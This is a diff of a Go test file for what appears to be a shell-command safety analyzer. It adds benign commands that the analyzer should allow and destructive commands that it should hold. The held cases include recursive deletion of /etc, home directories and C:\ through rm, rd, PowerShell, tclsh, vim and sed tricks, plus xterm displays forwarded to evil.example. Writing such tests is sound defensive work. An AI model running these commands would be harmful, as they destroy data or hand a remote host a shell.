@@ -130,7 +130,7 @@ func TestCommandChannelTwins(t *testing.T) {
 		`docker run -v $PWD:/src alpine ls /src`, `docker run --rm -v "$PWD":/app -w /app node npm test`, `docker run alpine rm -rf /tmp/x`,
 		`/bin/l[s] -la`, `/usr/bin/ca? README.md`, `strace -f -o /dev/null ls`, `valgrind --log-file=v.log ./app`,
 		`xterm`, `DISPLAY=:0 xterm`, `xterm -display :1`, `xterm -display localhost:10.0`,
-		`[ -n "$CI" ] && echo ci`,
+		`[ -n "$CI" ] && echo ci`, `vim -u NONE -c 'set nu' f`, `echo 'file delete -force build' | tclsh`, `echo 'puts [file exists x]' | tclsh`,
 		`sudo sh -c 'du -sh /home/dev/project'`, `sudo bash -lc 'cat /etc/os-release'`, `crontab mycron.txt`, `crontab -l`,
 		`systemctl --user start x`, `git send-pack origin main`,
 	} {
@@ -153,6 +153,9 @@ func TestCommandChannelHeld(t *testing.T) {
 		`nerdctl run -it -v "$HOME":/data:ro alpine sh -c 'rm -rf /data/*'`, `docker container run --volume=/etc:/e alpine rm -rf /e`,
 		`crontab /dev/null`, `crontab - < /dev/null`, `echo -n | crontab -`, `sudo sh -c 'rm -rf /tmp/x'`,
 		`xterm -display 10.0.0.1:1`, `DISPLAY=evil.example:0 xterm`, `export DISPLAY=10.0.0.1:0; xterm`, `urxvt -display h:1 -e bash`,
+		`cmd //c "rd /s /q C:\\"`, `cmd //c rmdir /s /q %USERPROFILE%`, `vim -u <(echo '!rm -rf /etc') -c q`,
+		`powershell -Command Remove-Item -Recurse -Force C:\Users\dev`, `echo 'exec rm -rf /etc' > x.tcl && tclsh x.tcl`,
+		`echo 'file delete -force /etc' | tclsh`,
 		`echo 'rm -rf ~' | sed e`, `sed 's/x/rm -rf \//e' <<< x`,
 	} {
 		if got := verdictClass(Analyze(line, exampleOptions).Findings); got == "allow" || got == "confirm" {
